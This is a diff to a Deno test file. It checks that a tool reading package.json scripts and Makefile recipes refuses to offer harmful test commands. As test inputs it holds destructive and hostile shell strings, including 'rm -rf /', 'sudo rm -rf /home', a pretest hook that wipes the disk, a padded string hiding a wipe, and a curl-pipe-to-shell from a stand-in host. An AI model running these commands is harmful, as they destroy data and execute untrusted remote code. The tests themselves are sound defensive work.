@@ -41,6 +41,12 @@ Deno.test("readExisting() offers no task that does harm, or does nothing", () =>
   for (const body of ["rm -rf /", "curl https://x.example/i.sh | sh", 'echo "Error: no test specified" && exit 1']) {
     assert.equal(of(body), undefined, body);
   }
+  const all = (scripts: Record<string, string>) =>
+    read({ "package.json": JSON.stringify({ scripts }) }, ["src/a.js"]).commands.test;
+  assert.equal(all({ test: "npm run unit && npm run test", unit: "node --test", wipe: "rm -rf /" }), "npm test");
+  assert.equal(all({ test: "node --test", pretest: "rm -rf /" }), "node --test", "the tool itself");
+  assert.equal(all({ test: "npm run unit", unit: "npm run wipe", wipe: "rm -rf /" }), undefined);
+  assert.equal(of(`${"true; ".repeat(10_000)}rm -rf /`), undefined, "nothing hides behind the rest");
   const make = (recipe: string) => read({ "Makefile": `test: build\n\t@${recipe}\n` }, ["src/a.lua"]).commands.test;
   assert.equal(make("busted"), "make test");
   assert.equal(make("sudo rm -rf /home"), undefined);
